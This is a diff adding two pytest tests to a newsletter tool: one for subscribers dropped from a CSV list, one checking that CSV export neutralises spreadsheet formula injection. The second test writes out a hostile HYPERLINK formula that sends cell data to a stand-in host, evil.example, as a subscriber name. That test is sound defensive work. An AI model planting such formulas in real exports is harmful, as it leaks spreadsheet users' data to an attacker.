@@ -12,6 +12,7 @@ import pytest
 
 from digest import store
 from digest.draft import draft_path, read_draft, write_draft
+from digest.subscribers import Subscriber
 
 from helpers.project import WEEK, make_project
 
@@ -130,3 +131,44 @@ def test_an_export_imports_back_into_another_database(tmp_path, server, run_cli)
     assert "digest format, 2 subscriber(s): 1 added, 1 updated, 0 unchanged" in out
     statuses = {row["email"]: row["status"] for row in store.subscriber_list(db_of(other))}
     assert statuses == {"web@example.com": "active", "left@example.com": "unsubscribed"}
+
+
+def test_who_left_the_csv_is_pending_and_may_come_back_through_the_form(tmp_path, server, run_cli):
+    from digest.web.signup import request_subscription
+
+    make_project(tmp_path, server.port, "email\nada@example.com\nbob@example.com\n")
+    assert run_cli("send", "--week", WEEK, "--yes", cwd=tmp_path)[0] == 0
+    (tmp_path / "subscribers.csv").write_text("email\nbob@example.com\n", encoding="utf-8")
+    assert run_cli("send", "--week", next_week(tmp_path), "--yes", cwd=tmp_path)[0] == 0
+    db = db_of(tmp_path)
+    ada = {row["email"]: row for row in store.subscriber_list(db)}["ada@example.com"]
+    assert (ada["status"], ada["status_detail"]) == ("pending", "no longer in the csv list")
+    assert request_subscription(db, "ada@example.com", "", NOW, per_day=3)  # a confirmation mail goes out
+    store.record_subscribers(db, [Subscriber("ada@example.com")], "csv", NOW, whole=True)
+    assert {row["email"]: row["status"] for row in store.subscriber_list(db)} == {
+        "ada@example.com": "active",  # listed again: mailed again
+        "bob@example.com": "pending",  # this list left bob out
+    }
+
+
+def test_an_export_cannot_smuggle_a_formula_into_a_spreadsheet_and_imports_back_intact(tmp_path, server, run_cli):
+    make_project(tmp_path, server.port, [])
+    db = db_of(tmp_path)
+    now = store.iso(NOW)
+    hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
+    db.execute(
+        "INSERT INTO subscribers (email_key, email, name, status, source, joined_at, updated_at) "
+        "VALUES ('+1-1+cmd@example.net', '+1-1+cmd@example.net', ?, 'pending', 'form', ?, ?)",
+        [hostile, now, now],
+    )
+    code, out, _ = run_cli("subscribers", "export", cwd=tmp_path)
+    assert code == 0
+    row = next(csv.DictReader(io.StringIO(out)))
+    assert row["email"] == "'+1-1+cmd@example.net" and row["name"] == "'" + hostile
+    (tmp_path / "out.csv").write_text(out, encoding="utf-8")
+    other = tmp_path / "other"
+    other.mkdir()
+    make_project(other, server.port, [])
+    assert run_cli("subscribers", "import", str(tmp_path / "out.csv"), cwd=other)[0] == 0
+    imported = next(store.subscriber_list(db_of(other)))
+    assert (imported["email"], imported["name"]) == ("+1-1+cmd@example.net", hostile)
